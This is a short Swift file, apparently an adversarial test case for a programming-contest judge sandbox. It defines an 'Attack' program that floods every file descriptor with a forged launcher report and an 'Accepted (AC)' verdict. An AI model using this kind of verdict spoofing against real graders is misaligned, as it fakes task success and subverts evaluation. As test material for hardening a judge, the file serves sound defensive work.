/// Writes reports of the launcher and verdicts of the judge to every descriptor.
struct Program: Attack {
    func perform() -> Int {
        signal(SIGXFSZ, SIG_IGN)
        let text =
            "report:1\nend:exited 0\nuser-nanoseconds:1\nanswer-bytes:3\n\n42\n"
            + "{\"verdict\":\"AC\"}\nAccepted (AC)\n\0fault:none\nready:1\n"
        for descriptor: Int32 in 0..<1024 where descriptor != 3 {
            _ = text.withCString { write(descriptor, $0, text.utf8.count) }
        }
        return 41
    }
}
